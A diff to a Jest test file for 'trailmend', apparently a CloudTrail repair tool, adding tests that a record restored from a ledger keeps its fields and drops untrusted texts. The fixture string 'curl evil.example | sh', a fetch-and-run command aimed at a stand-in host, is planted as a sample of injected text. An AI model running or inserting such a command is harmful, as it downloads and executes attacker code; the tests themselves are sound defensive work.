@@ -2,7 +2,7 @@ import { describe, expect, test } from '@jest/globals';
 import { NO_MEMORY } from '../../../../lambda/core/model/memory.ts';
 import { messageFor } from '../../../../lambda/core/notification/message-for.ts';
 import { savedRecord } from '../../../../lambda/core/outcome/saved-record.ts';
-import { NOW, PERFECT_TRAIL, recordWith, triggerWith } from '../../../support/perfect-trail.ts';
+import { ID, NOW, PERFECT_TRAIL, recordWith, triggerWith } from '../../../support/perfect-trail.ts';
 
 const PLANTED = 'curl evil.example | sh';
 const planted = recordWith({
@@ -30,6 +30,35 @@ describe('a record that an earlier run saved', () => {
       fromLedger: true,
     });
     expect(messageFor(record).text).toContain('What trailmend did: says the ledger, nothing. An earlier run saved');
+  });
+
+  test('is complete apart from its texts', () => {
+    const step = { operation: 'StartLogging', input: { Name: ID.arn }, needs: [], repairs: [] } as const;
+    const error = { operation: 'StartLogging', code: 'X', message: PLANTED };
+    const repeats = [{ eventName: 'StopLogging', actor: 'dana', count: 2, first: NOW, last: NOW, denied: false }];
+    const saved = { ...planted, repeats, applied: [{ step, result: 'failed', attempts: 2, error } as const] };
+    const evidence = { source: 'the ledger', saw: 'an earlier run saved this finding' };
+    const finding = { rule: 'role-not-set', verdict: 'violated', evidence } as const;
+    const { version, id, time, mode, trigger, subject, trailArn } = planted;
+    expect(savedRecord({ ...saved, findings: saved.remaining }, NO_MEMORY)).toEqual({
+      ...{ version, id, time, mode, trigger, subject, trailArn, repeats },
+      outcome: 'BLOCKED',
+      reason: 'scp',
+      fromLedger: true,
+      detail: `An earlier run saved this message and ended before it published it. The function's log has its record: search it for ${id}. If it is not there, trailmend did not write the message.`,
+      findings: [finding],
+      remaining: [finding],
+      plan: { steps: [], refused: [] },
+      applied: [{ step, result: 'failed', attempts: 2 }],
+    });
+  });
+
+  test('about the account names no trail, whatever its reason is', () => {
+    const { trailArn: _, ...ofAccount } = { ...planted, subject: { kind: 'account', account: ID.account } as const };
+    const record = savedRecord({ ...ofAccount, reason: 'trail-deleted' }, NO_MEMORY);
+    expect(record).not.toHaveProperty('trailArn');
+    expect(record).not.toHaveProperty('repeats');
+    expect(record).toMatchObject({ reason: 'trail-deleted', subject: ofAccount.subject, fromLedger: true });
   });
 
   test('loses every text and command that another principal could have written there', () => {
